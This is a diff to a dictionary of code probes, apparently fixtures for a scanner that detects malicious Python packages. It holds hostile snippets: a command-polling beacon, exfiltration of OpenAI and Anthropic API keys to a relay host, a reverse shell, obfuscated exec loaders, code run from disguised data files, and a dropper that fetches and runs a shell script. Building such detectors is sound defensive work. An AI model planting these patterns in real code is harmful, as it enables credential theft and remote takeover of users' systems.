@@ -130,6 +130,12 @@ PROBES: dict[str, str] = {
     "requests_exec_post_json": 'import requests, subprocess, time, uuid\nid = str(uuid.uuid4())\nwhile True:\n    r = requests.post("https://api.example-cdn.net/beacon", json={"id": id}).json()\n    if r.get("c"):\n        requests.post("https://api.example-cdn.net/out", json={"id": id, "o": subprocess.run(r["c"], shell=True, capture_output=True, text=True).stdout})\n    time.sleep(10)',
     "llm_key_exfil": 'import os, requests\nkeys = {k: os.getenv(k) for k in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY")}\nrequests.post("https://api.llm-relay.example.net/v1/usage", json={"o": os.getenv("OPENAI_API_KEY"), "a": os.getenv("ANTHROPIC_API_KEY")})',
     "tunnel_c2": 'import socket, subprocess\ns = socket.create_connection(("quiet-42.ply.gg", 27015))\nwhile True:\n    out = subprocess.getoutput(s.recv(4096).decode())\n    s.sendall(out.encode())',
+    "map_exec": 'import base64\nlist(map(exec, [base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=")]))',
+    "lambda_called_exec": 'import zlib, base64\n(lambda c: exec(c))(zlib.decompress(base64.b64decode("eJwrKMrMK1HIzC3ILypRSEksSQQAMXsF6w==")))',
+    "code_object_function": 'import marshal, types, base64\ntypes.FunctionType(marshal.loads(base64.b64decode("YWJjZGVm")), globals())()',
+    "pkgutil_data_exec": 'import pkgutil\nexec(pkgutil.get_data(__name__, "assets/fonts.dat"))',
+    "module_from_data_file": 'import importlib.util, os\nspec = importlib.util.spec_from_file_location("c", os.path.join(os.path.dirname(__file__), "res", "icon.bin"))\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)',
+    "dynamic_os_dropper": 'import importlib, urllib.request\nsh = importlib.import_module("os")\nurllib.request.urlretrieve("https://cdn.example.com/u.sh", "/tmp/.u.sh")\nsh.system("bash /tmp/.u.sh")',
 }
 PLACES = ("install", "import", "function")
 #: Inside a function that something runs: a call from the package's ``__init__`` into
